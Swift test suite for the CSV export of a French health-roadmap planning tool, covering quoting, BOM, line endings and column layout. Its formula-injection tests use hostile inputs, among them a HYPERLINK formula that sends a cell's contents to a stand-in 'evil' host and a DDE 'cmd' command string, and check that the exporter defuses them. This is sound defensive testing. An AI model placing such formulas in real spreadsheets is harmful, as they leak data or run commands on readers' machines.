import MandatSante
import Testing

@Suite("Export CSV")
struct CSVExportTests {
    @Test("un champ n'est entouré de guillemets que s'il contient le séparateur, un guillemet ou un saut de ligne",
          arguments: [
              ("simple", ";", "simple"),
              ("", ";", ""),
              ("a;b", ";", #""a;b""#),
              ("a,b", ";", "a,b"),
              ("a,b", ",", #""a,b""#),
              (#"le "pilote""#, ";", #""le ""pilote""""#),
              ("deux\nlignes", ";", "\"deux\nlignes\""),
              ("fin\r\nde ligne", ";", "\"fin\r\nde ligne\""),
              ("retour\r", ";", "\"retour\r\""),
              ("accents é « » – ok", ";", "accents é « » – ok"),
              // A double quote followed by a combining mark is one Character but still a double quote to a CSV reader.
              ("a\"\u{301}b", ";", "\"a\"\"\u{301}b\""),
          ] as [(String, Character, String)])
    func fieldEncoding(value: String, separator: Character, expected: String) {
        #expect(CSVField.encode(value, separator: separator) == expected)
    }

    @Test("le document commence par le BOM UTF-8 et termine chaque ligne par CRLF")
    func writer() {
        var writer = CSVWriter()
        writer.append(["Rang", "Action"])
        writer.append(["1", "Créer ; puis \"évaluer\""])
        let bytes = Array(writer.text.utf8)
        #expect(bytes.starts(with: [0xEF, 0xBB, 0xBF]))
        #expect(writer.text == "\u{FEFF}Rang;Action\r\n1;\"Créer ; puis \"\"évaluer\"\"\"\r\n")
    }

    @Test("le séparateur peut être la virgule")
    func commaSeparator() {
        var writer = CSVWriter(separator: ",")
        writer.append(["a;b", "c,d"])
        #expect(writer.text == "\u{FEFF}a;b,\"c,d\"\r\n")
    }

    @Test("une ligne par action dans l'ordre des rangs, un titre avec point-virgule et guillemets est cité")
    func roadmapRows() throws {
        var recs = Fixture.standard
        recs[0].title = #"Établir un diagnostic ; dit "partagé""#
        let (base, roadmap) = try Fixture.plan(Fixture.bourg, recs: recs)
        let csv = CSVRoadmapRenderer().render(RoadmapPresenter(ruleBase: base).document(roadmap))
        #expect(csv.hasPrefix("\u{FEFF}Rang;Phase;Période;Identifiant;Action;Décision de la page 1;Levier;Porteur;Échéance;Calendrier;Enchaînement;Effort;Coût;Niveau de preuve;Effet sur les inégalités;Pourquoi;Premiers pas;Partenaires;Financements;Indicateurs;Sources;Territoire;Édition;Score calculé (priorité de base + bonus)\r\n"))
        let rows = csv.dropFirst().components(separatedBy: "\r\n").dropFirst().filter { !$0.isEmpty }
        #expect(rows.count == roadmap.items.count)
        for (row, item) in zip(rows, roadmap.items) {
            #expect(row.hasPrefix("\(item.rank);"))
            #expect(row.contains(";\(item.recommendation.id);"))
        }
        let diagnostic = try #require(rows.first { $0.contains(";diagnostic-partage;") })
        #expect(diagnostic.contains(#";"Établir un diagnostic ; dit ""partagé""";"#))
        #expect(diagnostic.contains(";Réunir les acteurs concernés. | Écrire un plan d'action partagé.;"))
        // Carrier, no deadline, no placement line, no relation, then the effort.
        #expect(diagnostic.contains(";la communauté de communes;;;;faible;;"))
        // The sources, then the territory and the edition that date a shared file, and the score last.
        #expect(diagnostic.hasSuffix(";Nombre d'actions engagées.;Livre blanc (Éditeur d'essai, juillet 2026) — Chapitre 1;Communauté du Bourg;Édition de décembre 2026 · MandatSanté \(ToolVersion.current) · base de règles non versionnée;50"))
    }

    @Test("le moteur CSV accepte la virgule comme séparateur")
    func rendererWithComma() throws {
        let (base, roadmap) = try Fixture.plan(Fixture.bourg)
        let csv = CSVRoadmapRenderer(separator: ",").render(RoadmapPresenter(ruleBase: base).document(roadmap))
        #expect(csv.hasPrefix("\u{FEFF}Rang,Phase,Période,"))
    }

    @Test("injection de formules (OWASP) : une cellule de texte qu'un tableur exécuterait commence par une apostrophe",
          arguments: [
              (#"=HYPERLINK("http://evil/?"&A1;"x")"#, #""'=HYPERLINK(""http://evil/?""&A1;""x"")""#),
              ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
              ("@SUM(1+1)", "'@SUM(1+1)"),
              ("-1+1", "'-1+1"),
              ("\t=1+1", "'\t=1+1"),
              ("  =1+1", "'  =1+1"),
              ("\r=1+1", "\"'\r=1+1\""),
              ("＝1+1", "'＝1+1"),
              ("=", "'="),
              // Plain numbers stay numbers; text with a sign inside is harmless.
              ("-12", "-12"), ("+3", "+3"), ("-0,5", "-0,5"), ("12", "12"), ("a=b", "a=b"), ("Santé - prévention", "Santé - prévention"),
          ] as [(String, String)])
    func formulaInjection(value: String, expected: String) {
        #expect(CSVField.encode(value, separator: ";") == expected)
    }

    @Test("un texte fait de chiffres (code INSEE) toujours entre guillemets, sans perdre la défense contre les formules",
          arguments: [("01001", #""01001""#), ("2A004", #""2A004""#), ("", ""), ("=1+1", #""'=1+1""#), (#"0"1"#, #""0""1""#)] as [(String, String)])
    func quotedAsText(value: String, expected: String) {
        #expect(CSVField.encode(value, separator: ";", asText: true) == expected)
    }

    @Test("les noms et textes venus d'un profil ou d'une règle ne deviennent jamais des formules, dans la feuille de route et dans synthese.csv")
    func injectionThroughARoadmap() throws {
        var recs = Fixture.standard
        recs[0].title = "=1+1"
        var bourg = Fixture.bourg
        bourg.name = "@SUM(A1)"
        let (base, roadmap) = try Fixture.plan(bourg, recs: recs)
        let csv = CSVRoadmapRenderer().render(RoadmapPresenter(ruleBase: base).document(roadmap))
        #expect(csv.contains(";'=1+1;"))
        let territory = BatchTables.Territory(line: 2, profile: roadmap.profile, vocabulary: base.vocabulary)
        let tables = BatchTables.rows(RoadmapPresenter(ruleBase: base).document(roadmap), territory: territory, levers: base.levers)
        let synthesis = tables.synthesis + tables.actions + tables.levers
        #expect(tables.actions.hasPrefix("2;;'@SUM(A1);"))
        #expect(tables.actions.contains(";'=1+1;"))
        for line in (csv + synthesis).components(separatedBy: "\r\n") {
            for cell in line.components(separatedBy: ";") {
                #expect(!["=", "+", "@"].contains(cell.first.map(String.init) ?? ""), "\(cell)")
            }
        }
    }
}
